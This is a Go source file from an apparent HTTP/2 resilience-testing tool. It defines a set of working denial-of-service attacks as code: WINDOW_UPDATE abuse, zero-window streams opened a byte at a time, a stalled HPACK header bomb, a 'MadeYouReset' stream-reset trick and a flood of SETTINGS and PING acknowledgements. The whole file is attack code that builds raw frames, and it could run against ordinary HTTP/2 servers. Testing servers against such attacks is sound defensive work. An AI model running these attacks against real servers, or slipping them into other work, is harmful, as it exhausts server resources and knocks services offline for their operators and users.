package hostile

import (
	"bytes"
	"slices"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// windowAttacks are those that play with the windows of replies, and those that make a server reset
// what it works for.
func windowAttacks(headers, request []byte) []Attack {
	closed := Manners{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}
	return []Attack{
		{Name: "two WINDOW_UPDATEs a call", begin: func(c *Conn) (func() error, error) {
			// As gRPC's C core does; but without a pause.
			return c.calls(4, func(b []byte, stream uint32) []byte {
				b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
				b = appendCode(b, http2.FrameWindowUpdate, stream, largestReply)
				b = appendFrame(b, http2.FrameData, http2.FlagDataEndStream, stream, request)
				return appendCode(b, http2.FrameWindowUpdate, 0, largestReply)
			}), nil
		}},
		{Name: "windows that open by bytes", manners: closed, begin: func(c *Conn) (func() error, error) {
			return c.openByBytes(headers, request)
		}},
		{Name: "HPACK bomb that stalls", manners: closed, begin: func(c *Conn) (func() error, error) {
			return c.stalledBomb(headers, request)
		}},
		{Name: "MadeYouReset by a window", begin: func(c *Conn) (func() error, error) {
			return c.calls(3, func(b []byte, stream uint32) []byte {
				b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
				b = appendCode(b, http2.FrameWindowUpdate, stream, 1<<31-1)
				return appendFrame(b, http2.FrameData, http2.FlagDataEndStream, stream, request)
			}), nil
		}},
		flood("flood of acknowledgements", slices.Concat(
			appendFrame(nil, http2.FrameSettings, http2.FlagSettingsAck, 0, nil),
			appendFrame(nil, http2.FramePing, http2.FlagPingAck, 0, make([]byte, 8)))),
	}
}

// largestReply is more than a reply to [Request] takes.
const largestReply = 256

// openByBytes makes calls that cannot be answered, and then lets a byte of each answer go at a time.
func (c *Conn) openByBytes(headers, request []byte) (func() error, error) {
	var b []byte
	for i := range uint32(manyStreams) {
		b = appendCall(b, 1+2*i, headers, request)
	}
	if err := c.Send(2*manyStreams, b); err != nil {
		return nil, err
	}
	window := uint32(0)
	return func() error {
		window++
		return c.Send(1, appendSettings(nil, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window % largestReply}))
	}, nil
}

// stalledBomb makes calls whose headers are thousands of times what is sent, but no larger than the
// server takes, and gives their answers no window.
func (c *Conn) stalledBomb(headers, request []byte) (func() error, error) {
	var large strings.Builder
	if err := hpack.NewEncoder(&large).WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3900)}); err != nil {
		return nil, err
	}
	first := slices.Concat(headers, []byte(large.String()))
	if err := c.Send(2, appendFrame(appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, first),
		http2.FrameData, http2.FlagDataEndStream, 1, request)); err != nil {
		return nil, err
	}
	const newest, times = 0x80 | 62, 30
	bomb := slices.Concat(headers, bytes.Repeat([]byte{newest}, times))
	stream := uint32(3)
	var b []byte
	return func() error {
		b = b[:0]
		for range 64 {
			b = appendCall(b, stream, bomb, request)
			stream += 2
		}
		return c.Send(2*64, b)
	}, nil
}
